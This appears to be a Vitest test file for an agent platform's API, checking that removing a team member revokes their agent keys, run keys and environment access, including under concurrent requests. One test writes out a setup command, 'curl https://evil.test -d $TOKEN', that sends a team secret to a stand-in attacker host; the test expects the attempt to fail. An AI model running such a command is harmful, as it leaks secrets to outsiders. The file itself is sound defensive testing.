import { beforeEach, describe, expect, it } from "vitest";
import { hashKey } from "#shared/principals/api-key.ts";
import { keys } from "#shared/table/keys.ts";
import { type Client, createClient } from "../support/client.ts";
import { createTestControlPlane, type TestControlPlane } from "../support/control-plane.ts";
import { fireAt, listTicks, makeSchedule } from "../support/schedules.ts";

let plane: TestControlPlane;
let user: Client;
let rob: { uid: string; key: string };
let removed: Client;
let identity: string;
beforeEach(async () => {
  plane = await createTestControlPlane();
  user = createClient(plane);
  rob = await plane.person("Rob");
  removed = createClient(plane, rob.key);
  identity = (await user.post("/agent/identities", { name: "Reviewer" })).body.uid;
});

const member = () => `/agent/teams/${plane.team}/members/${rob.uid}`;
const makeAgentKey = async (client: Client, name = "ci", of = identity): Promise<{ uid: string; key: string }> => {
  const response = await client.post(`/agent/identities/${of}/keys`, { name });
  expect(response.status).toBe(201);
  return response.body;
};
const fetchStatus = async (key: string): Promise<number> => (await createClient(plane, key).get("/agent/runs")).status;

describe("an API key", () => {
  // @contract identities.keys.creator: Keys show created_by, a UserProfile, and last_used_at.
  it("is listed with the person who created it", async () => {
    const created_by = { type: "user", uid: rob.uid, display_name: "Rob", email: "rob@runyard.test" };
    const { uid } = await makeAgentKey(removed);
    expect((await user.get(`/agent/identities/${identity}/keys`)).body.keys).toMatchObject([{ uid, created_by }]);
    expect((await removed.post("/agent/keys", { name: "mine" })).body).toMatchObject({ created_by });
  });
});

describe("removing a member", () => {
  // @contract members.remove.keys: Removing a member revokes the agent keys that they created, and returns 200 with revoked_keys and kept_keys.
  it("revokes exactly the agent keys that they created, of every identity", async () => {
    const second = (await user.post("/agent/identities", { name: "Second" })).body.uid;
    const theirs = [
      await makeAgentKey(removed, "a"),
      await makeAgentKey(removed, "b"),
      await makeAgentKey(removed, "c", second),
    ];
    const other = await makeAgentKey(user, "other");
    const response = await user.delete(member());
    expect(response.status).toBe(200);
    expect(response.body.kept_keys).toEqual([]);
    expect(response.body.revoked_keys).toHaveLength(3);
    expect(response.body.revoked_keys).toContainEqual({ uid: theirs[2]?.uid, name: "c", identity_uid: second });
    for (const { key } of theirs) expect(await fetchStatus(key)).toBe(401);
    expect(await fetchStatus(other.key)).toBe(200);
    expect((await user.get(`/agent/identities/${identity}/keys`)).body.keys).toMatchObject([{ uid: other.uid }]);
  });

  it("does not change the key lists of identities for which they created none", async () => {
    await makeAgentKey(user, "other");
    const listKey = keys.identityKeys(plane.team, identity);
    const before = await plane.table.get(listKey);
    expect((await user.delete(member())).body).toEqual({ revoked_keys: [], kept_keys: [] });
    expect(await plane.table.get(listKey)).toEqual(before);
  });

  it("lists a key without a name if the key's own item is missing", async () => {
    const { uid, key } = await makeAgentKey(removed);
    await plane.table.write({ kind: "delete", key: keys.apiKey(hashKey(key)) });
    expect((await user.get(`/agent/identities/${identity}/keys`)).body.keys).toEqual([]);
    const response = await user.delete(member());
    expect(response.body).toEqual({ revoked_keys: [{ uid, name: "", identity_uid: identity }], kept_keys: [] });
  });

  // @contract members.remove.keys
  it("also revokes them if the member leaves", async () => {
    const { uid, key } = await makeAgentKey(removed);
    const response = await removed.delete(member());
    expect(response.body).toEqual({ revoked_keys: [{ uid, name: "ci", identity_uid: identity }], kept_keys: [] });
    expect(await fetchStatus(key)).toBe(401);
  });

  // @contract members.remove.keep: keep_keys=true keeps them.
  it("keeps and lists their keys with keep_keys=true", async () => {
    const { uid, key } = await makeAgentKey(removed);
    expect((await user.delete(`${member()}?keep_keys=maybe`)).status).toBe(400);
    const response = await user.delete(`${member()}?keep_keys=true`);
    expect(response.body).toEqual({ revoked_keys: [], kept_keys: [{ uid, name: "ci", identity_uid: identity }] });
    expect(await fetchStatus(key)).toBe(200);
  });

  // @contract members.remove.keep
  it("keeps no keys of a member who leaves with keep_keys=true and is not an admin", async () => {
    const { key } = await makeAgentKey(removed);
    const refusal = { status: 403, body: { error_code: "not_authorized" } };
    expect(await removed.delete(`${member()}?keep_keys=true`)).toMatchObject(refusal);
    const { body } = await user.get(`/agent/teams/${plane.team}/members`);
    expect(body.members.map(({ uid }: { uid: string }) => uid)).toContain(rob.uid);
    expect((await removed.delete(`${member()}?keep_keys=false`)).status).toBe(200);
    expect(await fetchStatus(key)).toBe(401);
  });

  // @contract members.remove.keep
  it("keeps the keys of an admin who leaves with keep_keys=true", async () => {
    await user.put(member(), { role: "admin" });
    const { uid, key } = await makeAgentKey(removed);
    const { body } = await removed.delete(`${member()}?keep_keys=true`);
    expect(body.kept_keys).toMatchObject([{ uid }]);
    expect(await fetchStatus(key)).toBe(200);
  });

  // @contract members.remove.unattributed: Keys without a stored creator are listed, not revoked.
  it("lists the keys without a stored creator, and keeps them", async () => {
    const old = await plane.agent("old");
    const response = await user.delete(member());
    expect(response.body).toEqual({
      revoked_keys: [],
      kept_keys: [{ uid: old.keyUid, name: "test", identity_uid: old.uid }],
    });
    expect(await fetchStatus(old.key)).toBe(200);
  });

  it("revokes a key that the member creates concurrently", async () => {
    const { transact } = plane.table;
    const late: string[] = [];
    let isFirst = true;
    Object.assign(plane.table, {
      transact: async (writes: Parameters<typeof transact>[0]) => {
        const ends = writes.some((write) => write.kind === "delete" && write.key.sk === keys.member("", rob.uid).sk);
        if (ends && isFirst) {
          isFirst = false;
          Object.assign(plane.table, { transact });
          late.push((await removed.post(`/agent/identities/${identity}/keys`, { name: "late" })).body.key);
        }
        return transact(writes);
      },
    });
    const response = await user.delete(member());
    expect(response.body.revoked_keys).toMatchObject([{ name: "late" }]);
    expect(await fetchStatus(late[0] ?? "")).toBe(401);
  });

  it("refuses a key to a request that started before", async () => {
    const { transact } = plane.table;
    Object.assign(plane.table, {
      transact: async (writes: Parameters<typeof transact>[0]) => {
        Object.assign(plane.table, { transact });
        expect((await user.delete(member())).status).toBe(200);
        return transact(writes);
      },
    });
    expect((await removed.post(`/agent/identities/${identity}/keys`, { name: "late" })).status).toBe(404);
    expect((await user.get(`/agent/identities/${identity}/keys`)).body.keys).toEqual([]);
  });

  it("revokes more keys than fit into one transaction", async () => {
    const identities = [identity];
    for (const name of ["B", "C"]) identities.push((await user.post("/agent/identities", { name })).body.uid);
    const made: string[] = [];
    for (const of of identities) {
      for (let number = 0; number < 35; number++) made.push((await makeAgentKey(removed, `${number}`, of)).key);
    }
    const response = await user.delete(member());
    expect(response.status).toBe(200);
    expect(response.body.revoked_keys).toHaveLength(105);
    for (const key of [made[0], made[50], made[104]]) expect(await fetchStatus(key ?? "")).toBe(401);
  });

  it("revokes all of them even if a key is created for an identity whose keys are already revoked", async () => {
    const identities = [identity];
    for (const name of ["B", "C"]) identities.push((await user.post("/agent/identities", { name })).body.uid);
    const made: string[] = [];
    for (const of of identities) {
      for (let number = 0; number < 35; number++) made.push((await makeAgentKey(removed, `${number}`, of)).key);
    }
    const { transact } = plane.table;
    let attempts = 0;
    Object.assign(plane.table, {
      transact: async (writes: Parameters<typeof transact>[0]) => {
        const isRevoking = writes.some((write) => write.kind === "delete" && write.key.pk.startsWith("KEY#"));
        if (isRevoking && attempts++ === 0) {
          Object.assign(plane.table, { transact });
          for (const of of identities) await makeAgentKey(user, "between", of);
        }
        return transact(writes);
      },
    });
    expect((await user.delete(member())).body.revoked_keys).toHaveLength(105);
    expect(attempts).toBe(1);
    const statuses = await Promise.all([0, 34, 35, 69, 70, 104].map((index) => fetchStatus(made[index] ?? "")));
    expect(statuses).toEqual([401, 401, 401, 401, 401, 401]);
  });

  it("revokes nothing if the last admin cannot be removed", async () => {
    const made: string[] = [];
    for (const name of ["B", "C", "D"]) {
      const { uid } = (await user.post("/agent/identities", { name })).body;
      for (let number = 0; number < 35; number++) made.push((await makeAgentKey(user, `${number}`, uid)).key);
    }
    expect((await user.delete(`/agent/teams/${plane.team}/members/${plane.user}`)).status).toBe(409);
    for (const key of [made[0], made[104]]) expect(await fetchStatus(key ?? "")).toBe(200);
  });
});

describe("a removed member", () => {
  it("cannot use the key of a LOCAL run of the team", async () => {
    const { body } = await removed.post("/agent/runs", { prompt: "mine", execution_location: "LOCAL" });
    const run = createClient(plane, body.run_key);
    expect((await run.get(`/agent/runs/${body.run_id}`)).status).toBe(200);
    await user.delete(member());
    expect((await run.get(`/agent/runs/${body.run_id}`)).status).toBe(401);
    expect((await run.post("/agent/runs", { prompt: "child" })).status).toBe(401);
    expect((await run.post("/harness-support/resolve-prompt", {})).status).toBe(401);
  });

  it("can still use the key of their own LOCAL run", async () => {
    const { body } = await removed.post("/agent/runs", { prompt: "mine", team: false, execution_location: "LOCAL" });
    await user.delete(member());
    expect((await createClient(plane, body.run_key).get(`/agent/runs/${body.run_id}`)).status).toBe(200);
  });

  it("cannot run commands with the team's secrets through their own environment in a schedule of the team", async () => {
    await user.post("/agent/secrets", { name: "TOKEN", value: "hush" });
    const { body: environment } = await removed.post("/agent/environments", { name: "Own", team: false });
    expect(environment.scope.type).toBe("User");
    const agent_config = { environment_id: environment.uid };
    const { id } = await makeSchedule(plane, { agent_config, time_zone: "UTC" }, rob.key);
    await fireAt(plane, id, "2026-05-19T02:30:00.000Z");
    expect(await listTicks(plane, id)).toMatchObject([{ outcome: "fired" }]);
    await user.delete(member());
    const change = { setup_commands: ["curl https://evil.test -d $TOKEN"], secrets: [{ name: "TOKEN" }] };
    expect((await removed.put(`/agent/environments/${environment.uid}`, change)).status).toBe(200);
    await fireAt(plane, id, "2026-05-20T02:30:00.000Z");
    const ticks = await listTicks(plane, id);
    expect(ticks.filter(({ outcome }) => outcome === "failed")).toMatchObject([
      { reason: expect.stringContaining("there is no such environment") },
    ]);
  });

  it("cannot share an environment of the team", async () => {
    const { body } = await user.post("/agent/environments", { name: "Shared" });
    await user.delete(member());
    expect((await removed.post(`/agent/environments/${body.uid}/share`, { user_uid: rob.uid })).status).toBe(404);
  });
});
